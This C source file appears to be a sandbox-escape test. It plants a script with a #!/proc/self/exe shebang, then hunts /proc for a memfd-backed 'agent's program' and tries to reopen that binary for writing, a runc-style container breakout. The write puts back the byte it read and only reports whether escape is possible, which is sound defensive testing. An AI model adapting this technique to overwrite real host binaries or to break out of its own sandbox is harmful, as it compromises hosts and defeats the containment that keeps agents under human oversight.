#include "attempt.h"
#include <pthread.h>

static char own[4096];

/* overwrite writes the first byte of a program as it is. */
static int overwrite(int from)
{
	char path[64], byte;
	snprintf(path, sizeof path, "/proc/self/fd/%d", from);
	int fd = open(path, O_RDWR);
	if (fd < 0 && errno == ETXTBSY)
		return 0; /* it still runs, and will have ended in a moment */
	if (fd < 0 || pread(fd, &byte, 1, 0) != 1)
		return -1;
	int n = pwrite(fd, &byte, 1, 0);
	close(fd);
	return n == 1 ? 1 : -1;
}

/* hunt looks for a process that runs another program than the shell's kind, and whose program has no name. */
static void *hunt(void *none)
{
	for (;;) {
		for (int pid = 2; pid < 200; pid++) {
			char exe[64], target[4096] = "";
			snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
			if (readlink(exe, target, sizeof target - 1) < 0 || strcmp(target, own) == 0 || !strstr(target, "memfd"))
				continue;
			int fd = open(exe, O_RDONLY);
			if (fd < 0)
				continue;
			for (int i = 0; i < 1000; i++)
				if (overwrite(fd) > 0)
					escaped("the agent's program could be written as %s", target);
			close(fd);
		}
	}
	return none;
}

int main(void)
{
	pthread_t t;
	if (readlink("/proc/self/exe", own, sizeof own - 1) < 0)
		broken("readlink");
	int fd = open("script", O_WRONLY | O_CREAT, 0755);
	if (dprintf(fd, "#!/proc/self/exe\n") < 0 || close(fd) < 0)
		broken("script");
	if (pthread_create(&t, NULL, hunt, NULL))
		broken("thread");
	planted(here("script"));
}
